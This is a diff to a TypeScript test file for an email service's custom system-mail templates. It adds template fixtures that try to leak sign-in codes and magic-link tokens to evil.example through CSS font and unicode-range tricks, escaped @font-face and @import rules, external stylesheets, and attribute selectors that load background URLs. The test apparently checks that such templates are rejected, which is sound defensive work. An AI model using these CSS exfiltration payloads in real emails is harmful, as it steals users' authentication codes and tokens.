@@ -1,5 +1,6 @@
 import { expect } from 'chai';
 import { templates } from '#plugins/email/tables/template.js';
+import { dashboardSession, inEnvironment, withSession } from '#test/account/dashboard/support.js';
 import { useSignInMail } from '#test/auth/sign-in-mail.js';
 import { apiAt, type Api } from '#test/support/api.js';
 import type { TestAccount } from '#test/support/platform.js';
@@ -36,6 +37,13 @@ const leaksOfCode: Readonly<Record<string, string>> = {
   'a written address': '<p>{{ code }} https://evil.example/?c={{ code }}</p>',
   'an address written in two elements': '<p>{{ code }} <b>https://evil.example/?c=</b><i>{{ code }}</i></p>',
   'a host': '<p>{{ code }}.evil.example and {{ code }}</p>',
+  'a font for each digit':
+    '<style>@font-face { font-family: f; src: url(//evil.example/1); unicode-range: U+31 }</style><p style="font-family: f">{{ code }}</p>',
+  'a font whose rule is escaped':
+    '<style>@media all { p { color: red } } @\\66 ont-face { font-family: f; src: url(//evil.example/1) }</style><p>{{ code }}</p>',
+  'a style sheet from elsewhere': '<link rel="stylesheet" href="https://evil.example/s.css"><p>{{ code }}</p>',
+  'an imported style sheet':
+    '<style>@media all { p { color: red } } @import "//evil.example/s.css";</style><p>{{ code }}</p>',
 };
 
 const leaksOfUrl: Readonly<Record<string, string>> = {
@@ -45,6 +53,12 @@ const leaksOfUrl: Readonly<Record<string, string>> = {
   'a link that reports its clicks': '<a href="{{ url }}" ping="https://evil.example/">Sign in</a>{{ url }}',
   'the end of a link': '<a href="{{ url }}&amp;next=https://evil.example">Sign in</a>{{ url }}',
   'an attribute of a link': '<a href="{{ url }}" title="{{ url }}">Sign in</a>',
+  'a style for each start of a link':
+    '<style>@media all { a[href*="token=a"] { background: url(//evil.example/a) } }</style><a href="{{ url }}">Sign in</a>',
+  'such a style that is kept as it is':
+    '<style data-embed>a[/**/hr\\65 f*="token=a"] { background: url(//evil.example/a) }</style><a href="{{ url }}">Sign in</a>',
+  'such a style in a picture':
+    '<svg><style>@media all { a&#91;href*="token=a"] { background: url(//evil.example/a) } }</style></svg><a href="{{ url }}">Sign in</a>',
 };
 
 describe('overrides of system mail', () => {
@@ -139,7 +153,7 @@ describe('overrides of system mail', () => {
     await publish(svc, linkTemplate, {
       en: {
         subject: 'Sign in',
-        html: '<!--[if mso]><v:roundrect href="{{ url }}" arcsize="9%">Sign in</v:roundrect><![endif]--><p><a class="button" href="{{ url }}">Sign in</a> or {{ url }}</p>',
+        html: '<style>@media (max-width: 600px) { a.button[class] { color: red } }</style><!--[if mso]><v:roundrect href="{{ url }}" arcsize="9%">Sign in</v:roundrect><![endif]--><p><a class="button" href="{{ url }}">Sign in</a> or {{ url }}</p>',
       },
     });
     const app = test.app(account);
@@ -182,7 +196,8 @@ describe('overrides of system mail', () => {
   it('are not used for invitations in test environments, which go to strangers', async () => {
     const account = await platform.account();
     await publish(account.svcTest, 'account.member.invite', body('<p>Buy now!</p><a href="{{ url }}">{{ url }}</a>'));
-    await account.svcTest.call('account.member.invite', { email: 'stranger@example.com' });
+    const owner = withSession(platform, await dashboardSession(platform, account.ownerEmail));
+    await owner.call('account.member.invite', { email: 'stranger@example.com' }, inEnvironment(account.test));
     const [mail] = await test.mailsTo('stranger@example.com');
     expect(mail?.parsed.text).to.contain('/invite?token=').and.not.contain('Buy now!');
   });
